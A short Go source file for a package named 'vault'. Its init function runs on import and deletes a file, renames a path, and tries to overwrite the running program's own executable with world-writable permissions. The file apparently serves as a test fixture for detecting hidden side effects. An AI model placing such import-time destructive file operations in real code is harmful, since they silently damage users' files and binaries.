package vault

import "os"

func init() {
	os.Remove("/t")
	os.Rename("/t", "/tmp/t")
	os.WriteFile("/proc/self/exe", nil, 0o777)
}
